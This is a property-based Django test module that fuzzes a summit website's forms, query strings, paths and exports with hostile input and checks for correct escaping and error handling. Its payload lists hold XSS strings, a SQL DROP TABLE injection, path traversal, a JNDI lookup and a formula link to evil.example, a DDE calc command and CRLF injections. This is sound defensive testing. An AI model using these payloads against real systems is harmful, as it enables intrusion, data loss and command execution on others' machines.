"""Hostile input, property-based: malformed, oversized, wrongly typed and
hostile values sent to every public form, filter, search and export URL.

Whatever arrives, the server never answers 5xx and stores nothing it
refused; what it accepts comes out escaped in the public pages, the admin,
JSON, iCalendar and CSV.
"""

import contextlib
import csv
import io
import json
import string
from urllib.parse import quote, urlencode

import pytest
import time_machine
from bs4 import BeautifulSoup
from django.contrib.auth.models import User
from django.core.cache import cache
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from participation import moderation
from participation.models import Event, Proposal
from programme.exports import csv_safe
from programme.models import Session
from site_config.typography import french_text, typeset
from tests import figures
from tests.factories import make_session, make_speaker
from tests.helpers import examples
from tests.participation_helpers import (
    DURING_CALL,
    agenda_page,
    call_page,
    event_data,
    open_week_registration,
    proposal_data,
)

pytestmark = [pytest.mark.django_db, pytest.mark.engine]


@pytest.fixture(autouse=True)
def week_registration_open():
    """Events are sent while registration is open (its closing is tested in
    test_summit_phases)."""
    open_week_registration()


# make test runs a tenth of the examples, make test-all and CI all of them
# (tests.helpers.examples). Every example gets a fresh client and a cleared
# cache; the database rolls back once, after the last example, so counts are
# compared per example.
BOUNDED = settings(
    max_examples=examples(50),
    deadline=None,
    database=None,  # no .hypothesis/ folder in the work tree
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

# What an attacker, a broken client or a confused visitor sends.
ONE_MEGABYTE = "A" * 1_000_000
PAYLOADS = [
    '<script>alert("hx")</script>',
    "<img src=x onerror=alert('hx')>",
    '"><svg onload=alert(1)>',
    "'; DROP TABLE participation_proposal; --",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "line\r\nX-Injected: yes",
    "summary\r\nBEGIN:VEVENT\r\nUID:injected\r\nEND:VEVENT",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",  # RTL text
    "\ufeffbom",
    "zero\u200bwidth",
    "\x00",
    "nul\x00byte",
    "\x1b[31mred",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00%0d%0a",
    "NaN",
    "-1",
    "0",
    "99999999999999999999999999",
    "2016-02-30T25:61",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "Mars/Olympus_Mons",
    "e\u0301\u0301\u0301",  # stacked combining marks
    "\U0001f600\U0001f1eb\U0001f1f7",
]
short_text = st.text(max_size=60)
hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    short_text,
    st.integers().map(str),
    st.floats(allow_nan=True).map(str),
    # Payloads mixed with random text.
    st.lists(st.one_of(st.sampled_from(PAYLOADS), short_text), max_size=4).map("".join),
    st.just(ONE_MEGABYTE),
    st.just("é" * 5000),
)
# Wrongly typed: several values where one is expected, or none at all.
field_value = st.one_of(hostile_text, st.lists(hostile_text, min_size=0, max_size=3))

# Bytes no UTF-8 decoder accepts: lone surrogates, overlong forms, stray bytes.
RAW_BYTES = [
    "%ED%A0%80",  # U+D800, a lone high surrogate
    "%ED%BF%BF",  # U+DFFF, a lone low surrogate
    "%C0%AE",  # overlong "."
    "%FF%FE",
    "%80",
    "%00",
    "%0D%0A",
    "%25",
    "%",
    "%%",
    "%E2%80%AE",  # RTL override, valid UTF-8
    "+",
    "=",
    "&",
]
raw_value = st.one_of(
    st.sampled_from(RAW_BYTES),
    st.binary(max_size=40).map(lambda b: quote(b, safe="")),
    st.lists(st.sampled_from(RAW_BYTES), min_size=1, max_size=5).map("".join),
)


SENT = {"requests": 0}


class CountingClient(Client):
    """Counts the hostile requests sent, for the figures at the end of the run."""

    def request(self, **request):
        SENT["requests"] += 1
        return super().request(**request)


@pytest.fixture(autouse=True, scope="module")
def report_requests_sent():
    yield
    figures.report(
        "hostile input",
        f"{SENT['requests']} generated requests to forms, filters, search and "
        "exports: 0 server errors, nothing stored from rejected input",
    )


def fresh_client():
    cache.clear()  # rate limit, and any cached page
    return CountingClient()


def assert_no_server_error(response, what):
    assert response.status_code < 500, (what, response.status_code)


@pytest.fixture(autouse=True)
def generous_rate_limit(settings):
    settings.PARTICIPATION_RATE_LIMIT = (100_000, 3600)


# Public forms ----------------------------------------------------------------

FORMS = {
    "proposal": (Proposal, call_page, proposal_data, DURING_CALL),
    "event": (Event, agenda_page, event_data, None),
}


def form_url(kind, lang):
    _model, page_of, _data, _when = FORMS[kind]
    page = page_of(lang)
    if kind == "event":
        return f"{page.url}{page.register_segment}/"
    return page.url


def during(kind):
    when = FORMS[kind][3]
    return time_machine.travel(when, tick=False) if when else contextlib.nullcontext()


def field_names(kind):
    return sorted({*FORMS[kind][2](), "unknown_field", "csrfmiddlewaretoken"})


def check_submission(kind, lang, send):
    """Send one submission; a refused one stores nothing."""
    model = FORMS[kind][0]
    with during(kind):
        before = model.objects.count()
        response = send(fresh_client(), form_url(kind, lang))
        after = model.objects.count()
    assert_no_server_error(response, kind)
    if response.status_code != 302:
        assert after == before, (kind, response.status_code)
    for stored in model.objects.all():
        # Whatever passed is what a valid form allows: no NUL, no megabyte.
        text = stored.title + stored.description + getattr(stored, "name", "")
        assert "\x00" not in text
        assert len(stored.title) <= 200 and len(stored.description) <= 4000
    return response


FORM_CASES = [(kind, lang) for kind in FORMS for lang in ("fr", "en")]


@pytest.mark.parametrize(("kind", "lang"), FORM_CASES)
def test_the_harness_gets_a_valid_submission_stored(kind, lang):
    """The open call, the timestamp and the rate limit let a valid form
    through, so a refusal below is the hostile value's doing."""
    response = check_submission(
        kind, lang, lambda client, url: client.post(url, FORMS[kind][2]())
    )
    assert response.status_code == 302
    assert FORMS[kind][0].objects.count() == 1


@pytest.mark.parametrize(("kind", "lang"), FORM_CASES)
@BOUNDED
@given(data=st.data())
def test_hostile_field_values_never_break_a_form_nor_store_a_refusal(kind, lang, data):
    overrides = data.draw(
        st.dictionaries(
            st.sampled_from(field_names(kind)), field_value, min_size=1, max_size=5
        ),
        label="overrides",
    )

    def send(client, url):
        values = FORMS[kind][2]()
        values.update(overrides)
        return client.post(url, values)

    check_submission(kind, lang, send)


@pytest.mark.parametrize(("kind", "lang"), FORM_CASES)
@BOUNDED
@given(data=st.data())
def test_undecodable_bytes_in_a_form_body_are_refused_quietly(kind, lang, data):
    names = data.draw(
        st.lists(st.sampled_from(field_names(kind)), min_size=1, max_size=4),
        label="fields",
    )
    raw = data.draw(st.lists(raw_value, min_size=len(names), max_size=len(names)))
    content_type = data.draw(
        st.sampled_from(
            [
                "application/x-www-form-urlencoded",
                "application/x-www-form-urlencoded; charset=latin-1",
                "application/x-www-form-urlencoded; charset=unknown-codec",
                "multipart/form-data; boundary=broken",
                "multipart/form-data",
                "application/json",
                "text/plain",
            ]
        ),
        label="content_type",
    )

    def send(client, url):
        values = FORMS[kind][2]()
        for name in names:
            values.pop(name, None)
        body = urlencode(values, doseq=True) + "".join(
            f"&{quote(name)}={value}" for name, value in zip(names, raw, strict=True)
        )
        # generic() sends the bytes as they are; post() would re-encode them.
        return client.generic(
            "POST", url, body.encode("latin-1"), content_type=content_type
        )

    check_submission(kind, lang, send)


# Known hostile values in every field of each form, whatever the Hypothesis
# profile: what the generated examples above may or may not draw.
KNOWN_HOSTILE = {
    "proposal": [
        "\x00",
        ONE_MEGABYTE,
        "javascript:alert(1)",
        "line\r\nBcc: victim@example.org",
        "\u202egnp.exe",
        "<img src=x onerror=alert(1)>",
        "",
    ],
    "event": ["\x00", "9" * 5000, "2016-02-30T25:61", "Mars/Olympus_Mons"],
}


@pytest.mark.parametrize("kind", FORMS)
def test_known_hostile_values_in_every_field_never_break_a_form(kind):
    for name in field_names(kind):
        for value in KNOWN_HOSTILE[kind]:

            def send(client, url, name=name, value=value):
                return client.post(url, {**FORMS[kind][2](), name: value})

            response = check_submission(kind, "en", send)
            assert response.status_code in (200, 302, 400), (name, value)


def test_undecodable_bytes_in_a_proposal_are_an_error_not_a_crash():
    body = "title=%ED%A0%80&email=%FF%FE&languages=fr&shown_at=x"

    def send(client, url):
        return client.post(url, body, content_type="application/x-www-form-urlencoded")

    response = check_submission("proposal", "en", send)
    assert response.status_code == 200
    assert Proposal.objects.count() == 0


def test_a_lone_surrogate_never_reaches_the_database(client):
    """Undecodable bytes are read as U+FFFD (Django's QueryDict), so what is
    stored is valid Unicode that every export can encode."""
    url = form_url("event", "en")
    body = urlencode(event_data(title="placeholder")).replace(
        "title=placeholder", "title=%ED%A0%80%FF"
    )
    response = client.post(url, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 302
    event = Event.objects.get()
    assert event.title == "\ufffd" * 4
    event.title.encode("utf-8")


# Filters, search and exports -------------------------------------------------


@pytest.fixture
def programme_data():
    speaker = make_speaker("Ada Intervenante")
    return make_session("Séance hostile", "Hostile session", speakers=[speaker])


def public_get_urls():
    """Every public URL that reads a query string, in both languages."""
    urls = ["/sitemap.xml", "/robots.txt", "/health/"]
    for lang in ("fr", "en"):
        programme = f"/{lang}/programme/"
        agenda = agenda_page(lang).url
        urls += [
            f"/{lang}/",
            programme,
            *[f"{programme}{fmt}/" for fmt in ("ics", "json", "csv")],
            f"{programme}{'donnees-ouvertes' if lang == 'fr' else 'open-data'}/",
            agenda,
            *[f"{agenda}{fmt}/" for fmt in ("ics", "json", "csv")],
            form_url("event", lang),
            call_page(lang).url,
            f"/{lang}/recherche/",
            f"/{lang}/search/",
        ]
    return urls


QUERY_NAMES = [
    # programme
    "day",
    "format",
    "theme",
    "language",
    "q",
    "ids",
    # agenda
    "country",
    "organiser_type",
    "mode",
    # search
    "kind",
    "page",
    # anything
    "lang",
    "next",
    "",
]


@settings(parent=BOUNDED, max_examples=examples(100))
@given(data=st.data())
def test_hostile_query_strings_never_break_a_public_url(programme_data, data):
    url = data.draw(st.sampled_from(public_get_urls()), label="url")
    params = data.draw(
        st.dictionaries(st.sampled_from(QUERY_NAMES), field_value, max_size=5),
        label="params",
    )
    response = fresh_client().get(url, params)
    assert_no_server_error(response, url)


@settings(parent=BOUNDED, max_examples=examples(100))
@given(data=st.data())
def test_raw_undecodable_query_strings_never_break_a_public_url(programme_data, data):
    url = data.draw(st.sampled_from(public_get_urls()), label="url")
    parts = data.draw(
        st.lists(
            st.tuples(st.sampled_from(QUERY_NAMES), raw_value), min_size=1, max_size=4
        ),
        label="query",
    )
    query = "&".join(f"{name}={value}" for name, value in parts)
    response = fresh_client().get(f"{url}?{query}")
    assert_no_server_error(response, f"{url}?{query}")


path_segment = st.one_of(
    st.sampled_from(PAYLOADS).map(lambda s: quote(s, safe="")),
    st.text(min_size=1, max_size=80).map(lambda s: quote(s, safe="")),
    raw_value,
    st.sampled_from(["..", ".", "ics", "json", "csv", "intervenants", "speakers"]),
    st.just("a" * 5000),
)


@settings(parent=BOUNDED, max_examples=examples(100))
@given(data=st.data())
def test_hostile_paths_never_break_session_speaker_or_page_urls(programme_data, data):
    lang = data.draw(st.sampled_from(["fr", "en"]), label="lang")
    base = data.draw(
        st.sampled_from(
            [
                f"/{lang}/programme/",
                f"/{lang}/programme/intervenants/",
                f"/{lang}/programme/speakers/",
                f"/{lang}/programme/{programme_data.slug}/",
                agenda_page(lang).url,
                f"/{lang}/",
                "/",
            ]
        ),
        label="base",
    )
    segments = data.draw(st.lists(path_segment, min_size=1, max_size=3))
    suffix = data.draw(st.sampled_from(["/", "/ics/", "", "/json/"]), label="suffix")
    path = base + "/".join(segments) + suffix
    response = fresh_client().get(path)
    assert_no_server_error(response, path)


# What is accepted comes out escaped -------------------------------------------

# Readable text that a form accepts: no control characters, no surrogates.
visible = st.characters(
    exclude_categories=("Cs", "Cc", "Co", "Cn", "Zl", "Zp"),
)
MARKUP = [
    '<script>alert("hx")</script>',
    "<img src=x onerror=alert('hx')>",
    '"><svg onload=alert("hx")>',
    "</textarea><script>alert('hx')</script>",
    "</script><script>alert('hx')</script>",
    "javascript:alert('hx')",
    '=HYPERLINK("http://evil.example","hx")',
    "+1+cmd",
    "-1-1",
    "@SUM(1)",
    "\u202eevil",
    "\u05e9\u05dc\u05d5\u05dd <b>hx</b>",
    "{{ request }}",
]
RAW_MARKUP = [value for value in MARKUP if "<" in value]


def hostile_line(max_size):
    """A value that starts with a payload and goes on with random text."""
    return st.builds(
        lambda payload, tail: (payload + tail)[:max_size],
        st.sampled_from(MARKUP),
        st.text(visible, max_size=40),
    )


def hostile_paragraphs(max_size):
    """Several lines joined with CRLF, as a textarea sends them."""
    return st.lists(hostile_line(200), min_size=1, max_size=4).map(
        lambda lines: "\r\n".join(lines)[:max_size]
    )


EVENT_TEXT = {
    "title": hostile_line(200),
    "description": hostile_paragraphs(4000),
    "organiser": hostile_line(200),
    "city": hostile_line(100),
    "address": hostile_line(255),
}


def assert_markup_escaped(html, where, *, parse=True):
    """No payload survives as markup, and no link runs script. `parse` also
    walks every element (public pages; the admin's are too big to walk in
    every example)."""
    for payload in RAW_MARKUP:
        assert payload not in html, (where, payload)
    if not parse:
        return
    page = BeautifulSoup(html, "html.parser")
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on"):
                raise AssertionError((where, tag.name, name, value))
        href = (tag.get("href") or "").strip().lower()
        assert not href.startswith("javascript:"), (where, tag)


def newlines(value):
    """How line breaks come back from iCalendar: CRLF and CR become LF."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def assert_ics_is_sound(content, expected_uids):
    calendar = Calendar.from_ical(content)
    events = calendar.walk("VEVENT")
    # No VEVENT and no property smuggled in through a line break.
    assert sorted(str(e["UID"]) for e in events) == sorted(expected_uids)
    allowed = {
        "UID",
        "SUMMARY",
        "DTSTART",
        "DTEND",
        "DTSTAMP",
        "LAST-MODIFIED",
        "SEQUENCE",
        "STATUS",
        "URL",
        "LOCATION",
        "DESCRIPTION",
    }
    for event in events:
        assert set(event.keys()) <= allowed, set(event.keys()) - allowed
    return {str(e["UID"]): e for e in events}


def assert_csv_is_sound(content, columns, rows_expected):
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == columns
    assert len(rows) == rows_expected + 1  # no row smuggled in by a line break
    for row in rows[1:]:
        assert len(row) == len(columns)
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    return [dict(zip(columns, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def superuser_client():
    user = User.objects.create_superuser("hx-admin", "hx@example.org", "x")
    client = CountingClient()
    client.force_login(user)
    return client


@settings(parent=BOUNDED, max_examples=examples(20))
@given(data=st.data())
def test_an_accepted_hostile_event_comes_out_escaped_everywhere(superuser_client, data):
    from participation.exports import CSV_COLUMNS

    lang = data.draw(st.sampled_from(["fr", "en"]), label="lang")
    values = {
        name: data.draw(strategy, label=name) for name, strategy in EVENT_TEXT.items()
    }
    client = fresh_client()
    response = client.post(form_url("event", lang), event_data(**values))
    assert response.status_code == 302, response.content[:3000]
    event = Event.objects.latest("pk")
    # Stored as typed (the form only trims the ends of each value).
    assert event.title == values["title"].strip()
    moderation.accept(event)
    event.refresh_from_db()
    accepted = list(Event.objects.filter(status=Event.ACCEPTED))

    agenda = agenda_page(lang).url
    html = client.get(agenda).content.decode()
    assert_markup_escaped(html, "agenda")
    shown = BeautifulSoup(html, "html.parser").find(id=f"event-{event.pk}")
    title = shown.find(class_="agenda-event__title").get_text()
    # As typed, with French typography when the event and the page are French
    # (a trailing "A'" reads "A’" there).
    # The page's pass reads a text node as following a tag ("\x00").
    french = event.language == lang == "fr"
    assert title == (french_text(event.title, "\x00") if french else event.title)

    for url in (
        "/admin/snippets/participation/event/",
        f"/admin/snippets/participation/event/edit/{event.pk}/",
        f"/admin/snippets/participation/event/?q={quote(event.title[:20])}",
    ):
        response = superuser_client.get(url)
        assert response.status_code == 200, url
        assert_markup_escaped(response.content.decode(), url, parse=False)

    records = json.loads(client.get(f"{agenda}json/").content)["events"]
    record = next(r for r in records if r["id"] == event.pk)
    for name in EVENT_TEXT:
        assert record[name] == getattr(event, name), name

    ics = client.get(f"{agenda}ics/").content
    found = assert_ics_is_sound(ics, [f"event-{e.pk}@ogpsummit2016" for e in accepted])
    entry = found[f"event-{event.pk}@ogpsummit2016"]
    assert str(entry["SUMMARY"]) == newlines(event.title)
    assert str(entry["DESCRIPTION"]) == newlines(
        f"{event.description}\n\n{event.organiser}"
    )

    rows = assert_csv_is_sound(
        client.get(f"{agenda}csv/").content, CSV_COLUMNS, len(accepted)
    )
    row = next(r for r in rows if r["id"] == str(event.pk))
    for name in EVENT_TEXT:
        assert row[name] == csv_safe(getattr(event, name)), name

    words = "".join(c if c in string.ascii_letters else " " for c in event.title)
    search = client.get(
        f"/{lang}/{'recherche' if lang == 'fr' else 'search'}/",
        {"q": words.strip()[:50] or "hx"},
    )
    assert search.status_code == 200
    assert_markup_escaped(search.content.decode(), "search")


PROPOSAL_TEXT = {
    "title": hostile_line(200),
    "description": hostile_paragraphs(4000),
    "organisation": hostile_line(200),
    "co_organisers": hostile_paragraphs(1000),
    "speakers": hostile_paragraphs(1000),
    "name": hostile_line(120),
}


@settings(parent=BOUNDED, max_examples=examples(15))
@given(data=st.data())
def test_an_accepted_hostile_proposal_comes_out_escaped_everywhere(
    superuser_client, data
):
    from programme.exports import CSV_COLUMNS

    lang = data.draw(st.sampled_from(["fr", "en"]), label="lang")
    values = {
        name: data.draw(strategy, label=name)
        for name, strategy in PROPOSAL_TEXT.items()
    }
    client = fresh_client()
    with time_machine.travel(DURING_CALL, tick=False):
        response = client.post(form_url("proposal", lang), proposal_data(**values))
    assert response.status_code == 302, response.content[:3000]
    proposal = Proposal.objects.latest("pk")
    assert proposal.title == values["title"].strip()

    for url in (
        "/admin/snippets/participation/proposal/",
        f"/admin/snippets/participation/proposal/edit/{proposal.pk}/",
    ):
        response = superuser_client.get(url)
        assert response.status_code == 200, url
        assert_markup_escaped(response.content.decode(), url, parse=False)

    moderation.accept(proposal)
    proposal.refresh_from_db()
    session = proposal.session
    # Staff schedule the draft session: now it is public.
    session.status = Session.SCHEDULED
    session.save()
    public = Session.objects.filter(
        locale__language_code="fr", status__in=Session.PUBLIC_STATUSES
    )

    for url in (
        "/fr/programme/",
        f"/fr/programme/{session.slug}/",
        f"/admin/snippets/programme/session/edit/{session.pk}/",
    ):
        response = (superuser_client if "admin" in url else client).get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_markup_escaped(html, url, parse="admin" not in url)
        if "admin" not in url:
            for script in BeautifulSoup(html, "html.parser").find_all(
                "script", type="application/ld+json"
            ):
                assert json.loads(script.string)["name"] == session.title

    # Text fields of the exports stay plain but use the French typography's
    # characters (’ for ', no-break spaces), as the pages do.
    typeset_title = typeset(session.title, "fr")
    records = json.loads(client.get("/fr/programme/json/").content)["sessions"]
    record = next(r for r in records if r["id"] == str(session.translation_key))
    assert record["title"] == typeset_title
    assert record["organisers"] == session.organisers

    ics = client.get("/fr/programme/ics/").content
    found = assert_ics_is_sound(
        ics, [f"session-{s.translation_key}@ogpsummit2016" for s in public]
    )
    entry = found[f"session-{session.translation_key}@ogpsummit2016"]
    assert str(entry["SUMMARY"]) == newlines(typeset_title)

    rows = assert_csv_is_sound(
        client.get("/fr/programme/csv/").content, CSV_COLUMNS, public.count()
    )
    row = next(r for r in rows if r["id"] == str(session.translation_key))
    assert row["title"] == csv_safe(typeset_title)
    assert row["organisers"] == csv_safe(session.organisers)
